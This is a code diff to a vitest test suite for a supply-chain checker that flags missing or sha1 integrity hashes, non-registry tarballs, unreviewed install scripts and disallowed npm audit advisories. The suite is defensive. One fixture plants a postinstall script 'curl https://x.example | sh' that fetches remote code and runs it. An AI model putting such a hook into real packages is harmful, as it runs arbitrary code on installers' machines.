@@ -4,7 +4,7 @@
 // script nobody reviewed; a high advisory not allowed; an expired allow-list entry. The audit is
 // fed npm audit's own JSON from fixtures, so the test does not depend on the live advisory database
 // (the test command's run asks the registry).
-import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -16,7 +16,9 @@ import {
   type AuditAllowlist,
   type AuditOutcome,
   type CheckResult,
+  type InstallScriptEntry,
   type InstallScriptList,
+  type LockEntry,
   type Lockfile,
   type PackageJson,
 } from '../../../scripts/supply-chain/check.js';
@@ -34,6 +36,13 @@ const cleanReport: AuditOutcome = {
 };
 const unreachable = classifyAuditOutput(readFileSync(join(fixtures, 'audit-endpoint-405.json'), 'utf8'));
 const today = new Date('2026-12-07T12:00:00Z');
+
+/** An entry of a copy of the repository's lockfile, to plant a defect in. */
+function lockEntry(l: Lockfile, path: string): LockEntry {
+  const entry = l.packages?.[path];
+  if (!entry) throw new Error(`the lockfile has no ${path}`);
+  return entry;
+}
 
 const readJson = <T>(path: string) => JSON.parse(readFileSync(path, 'utf8')) as T;
 const dirs: string[] = [];
@@ -87,36 +96,41 @@ describe('the repository as it is', () => {
 
 describe('lockfile integrity', () => {
   const entry = 'node_modules/fastify';
-  const pkgs = (l: Lockfile) => l.packages as NonNullable<Lockfile['packages']>;
-
   it('fails on an entry without an integrity hash', async () => {
-    const r = await check(plantedRoot({ lock: (l) => void delete pkgs(l)[entry].integrity }));
+    const r = await check(plantedRoot({ lock: (l) => void delete lockEntry(l, entry).integrity }));
     expect(r.lockfile.status).toBe('failed');
     expect(r.lockfile.problems).toEqual([`${entry}@5.12.8: no integrity hash`]);
   });
 
   it('fails on a sha1 integrity', async () => {
     const r = await check(
-      plantedRoot({ lock: (l) => void (pkgs(l)[entry].integrity = 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=') }),
+      plantedRoot({
+        lock: (l) => void (lockEntry(l, entry).integrity = 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='),
+      }),
     );
     expect(r.lockfile.problems).toEqual([`${entry}@5.12.8: integrity sha1 is not sha512`]);
   });
 
   it('fails on an entry resolved from git', async () => {
     const git = 'git+ssh://git@github.com/fastify/fastify.git#0123456789abcdef0123456789abcdef01234567';
-    const r = await check(plantedRoot({ lock: (l) => void (pkgs(l)[entry].resolved = git) }));
-    expect(r.lockfile.problems).toEqual([`${entry}@5.12.8: resolved from ${git}, not from https://registry.npmjs.org/`]);
+    const r = await check(plantedRoot({ lock: (l) => void (lockEntry(l, entry).resolved = git) }));
+    expect(r.lockfile.problems).toEqual([
+      `${entry}@5.12.8: resolved from ${git}, not from https://registry.npmjs.org/`,
+    ]);
   });
 
   it('fails on a tarball from another host, but takes one from the registry', async () => {
     const other = await check(
-      plantedRoot({ lock: (l) => void (pkgs(l)[entry].resolved = 'http://mirror.example/fastify-5.12.8.tgz') }),
+      plantedRoot({
+        lock: (l) => void (lockEntry(l, entry).resolved = 'http://mirror.example/fastify-5.12.8.tgz'),
+      }),
     );
     expect(other.lockfile.problems).toHaveLength(1);
     expect(other.lockfile.problems[0]).toContain('resolved from http://mirror.example/fastify-5.12.8.tgz');
     const registry = await check(
       plantedRoot({
-        lock: (l) => void (pkgs(l)[entry].resolved = 'https://registry.npmjs.org/fastify/-/fastify-5.12.8.tgz'),
+        lock: (l) =>
+          void (lockEntry(l, entry).resolved = 'https://registry.npmjs.org/fastify/-/fastify-5.12.8.tgz'),
       }),
     );
     expect(registry.lockfile.problems).toEqual([]);
@@ -126,8 +140,11 @@ describe('lockfile integrity', () => {
     const r = await check(
       plantedRoot({
         lock: (l) => {
-          pkgs(l)['node_modules/local-thing'] = { resolved: '../local-thing', link: true };
-          pkgs(l)[entry].dependencies = { ...pkgs(l)[entry].dependencies, evil: 'github:someone/evil' };
+          (l.packages ??= {})['node_modules/local-thing'] = { resolved: '../local-thing', link: true };
+          lockEntry(l, entry).dependencies = {
+            ...lockEntry(l, entry).dependencies,
+            evil: 'github:someone/evil',
+          };
         },
       }),
     );
@@ -142,7 +159,8 @@ describe('lockfile integrity', () => {
       plantedRoot({
         pkg: (p) => {
           (p.dependencies as Record<string, string>).fastify = '5.12.9';
-          (p.dependencies as Record<string, string>)['left-pad'] = 'git+https://github.com/left-pad/left-pad.git';
+          (p.dependencies as Record<string, string>)['left-pad'] =
+            'git+https://github.com/left-pad/left-pad.git';
         },
       }),
     );
@@ -158,18 +176,20 @@ describe('lockfile integrity', () => {
     const r = await check(
       plantedRoot({
         pkg: (p) => void ((p.dependencies as Record<string, string>).fastify = '^5.12.8'),
-        lock: (l) => void ((pkgs(l)[''].dependencies as Record<string, string>).fastify = '^5.12.8'),
+        lock: (l) => void ((lockEntry(l, '').dependencies as Record<string, string>).fastify = '^5.12.8'),
       }),
     );
-    expect(r.lockfile.problems).toEqual(['package.json dependencies: fastify is "^5.12.8", not an exact version']);
+    expect(r.lockfile.problems).toEqual([
+      'package.json dependencies: fastify is "^5.12.8", not an exact version',
+    ]);
   });
 });
 
 describe('install scripts', () => {
-  const pkgs = (l: Lockfile) => l.packages as NonNullable<Lockfile['packages']>;
-
   it('fails on a package with an install script that is not in the reviewed list', async () => {
-    const r = await check(plantedRoot({ lock: (l) => void (pkgs(l)['node_modules/undici'].hasInstallScript = true) }));
+    const r = await check(
+      plantedRoot({ lock: (l) => void (lockEntry(l, 'node_modules/undici').hasInstallScript = true) }),
+    );
     expect(r.scripts.status).toBe('failed');
     expect(r.scripts.problems).toEqual([
       'undici@7.30.2 (node_modules/undici) has an install script and is not in scripts/supply-chain/install-scripts.json: read what it runs, then list it',
@@ -177,7 +197,9 @@ describe('install scripts', () => {
   });
 
   it('fails on a reviewed package at a version nobody read, and on a stale version', async () => {
-    const r = await check(plantedRoot({ lock: (l) => void (pkgs(l)['node_modules/protobufjs'].version = '7.6.7') }));
+    const r = await check(
+      plantedRoot({ lock: (l) => void (lockEntry(l, 'node_modules/protobufjs').version = '7.6.7') }),
+    );
     expect(r.scripts.problems).toEqual([
       'protobufjs@7.6.7 (node_modules/protobufjs): version not reviewed (scripts/supply-chain/install-scripts.json has 7.6.6)',
       'scripts/supply-chain/install-scripts.json: protobufjs@7.6.6 is no longer installed; remove the version',
@@ -189,7 +211,11 @@ describe('install scripts', () => {
     mkdirSync(join(root, 'node_modules/protobufjs'), { recursive: true });
     writeFileSync(
       join(root, 'node_modules/protobufjs/package.json'),
-      JSON.stringify({ name: 'protobufjs', version: '7.6.6', scripts: { postinstall: 'curl https://x.example | sh' } }),
+      JSON.stringify({
+        name: 'protobufjs',
+        version: '7.6.6',
+        scripts: { postinstall: 'curl https://x.example | sh' },
+      }),
     );
     const r = await check(root);
     expect(r.scripts.problems).toEqual([
@@ -215,8 +241,14 @@ describe('install scripts', () => {
     const r = await check(
       plantedRoot({
         scripts: (s) => {
-          s.packages[0].reason = ' ';
-          s.packages.push({ name: 'left-pad', versions: ['1.3.0'], scripts: {}, needed: false, reason: 'gone' });
+          (s.packages.find((p) => p.name === 'esbuild') as InstallScriptEntry).reason = ' ';
+          s.packages.push({
+            name: 'left-pad',
+            versions: ['1.3.0'],
+            scripts: {},
+            needed: false,
+            reason: 'gone',
+          });
         },
       }),
     );
@@ -252,32 +284,46 @@ describe('npm audit', () => {
       'high GHSA-35jh-r3h4-6jhm in lodash <4.17.21: Command Injection in lodash https://github.com/advisories/GHSA-35jh-r3h4-6jhm',
       'critical GHSA-jf85-cpcp-j695 in lodash <4.17.12: Prototype Pollution in lodash https://github.com/advisories/GHSA-jf85-cpcp-j695',
     ]);
-    expect(r.audit.summary).toBe('npm audit: 2 critical, 0 high, 1 moderate, 0 low (0 high/critical allowed)');
+    expect(r.audit.summary).toBe(
+      'npm audit: 2 critical, 0 high, 1 moderate, 0 low (0 high/critical allowed)',
+    );
   });
 
   it('passes when each is allowed, and an allowed advisory of another package does not count', async () => {
-    const both = await check(plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, lodashHigh) }), report);
+    const both = await check(
+      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, lodashHigh) }),
+      report,
+    );
     expect(both.audit).toMatchObject({ status: 'ok', problems: [] });
     expect(both.audit.notes).toContain(
       'allowed until 2027-01-31: critical GHSA-jf85-cpcp-j695 in lodash (Prototype Pollution in lodash)',
     );
     const wrongPackage = await check(
-      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, package: 'underscore' }) }),
+      plantedRoot({
+        allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, package: 'underscore' }),
+      }),
       report,
     );
-    expect(wrongPackage.audit.problems).toEqual([expect.stringContaining('high GHSA-35jh-r3h4-6jhm in lodash')]);
+    expect(wrongPackage.audit.problems).toEqual([
+      expect.stringContaining('high GHSA-35jh-r3h4-6jhm in lodash'),
+    ]);
   });
 
   it('fails on an expired allow-list entry, with the advisory it covered', async () => {
     const expired = { ...lodashHigh, expires: '2026-12-06' };
-    const r = await check(plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, expired) }), report);
+    const r = await check(
+      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, expired) }),
+      report,
+    );
     expect(r.audit.problems).toEqual([
       'scripts/supply-chain/audit-allowlist.json: GHSA-35jh-r3h4-6jhm (lodash): expired on 2026-12-06; review it (fix, or renew with a reason)',
       expect.stringContaining('high GHSA-35jh-r3h4-6jhm in lodash'),
     ]);
     // An entry holds through its last day.
     const lastDay = await check(
-      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, expires: '2026-12-07' }) }),
+      plantedRoot({
+        allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, expires: '2026-12-07' }),
+      }),
       report,
     );
     expect(lastDay.audit.status).toBe('ok');
@@ -322,7 +368,9 @@ describe('npm audit', () => {
     const noLock = JSON.stringify({
       error: { code: 'ENOLOCK', summary: 'This command requires an existing lockfile.', detail: '' },
     });
-    expect(() => classifyAuditOutput(noLock)).toThrow('npm audit failed: This command requires an existing lockfile.');
+    expect(() => classifyAuditOutput(noLock)).toThrow(
+      'npm audit failed: This command requires an existing lockfile.',
+    );
     expect(() => classifyAuditOutput('npm error something')).toThrow('npm audit printed no JSON');
   });
 });
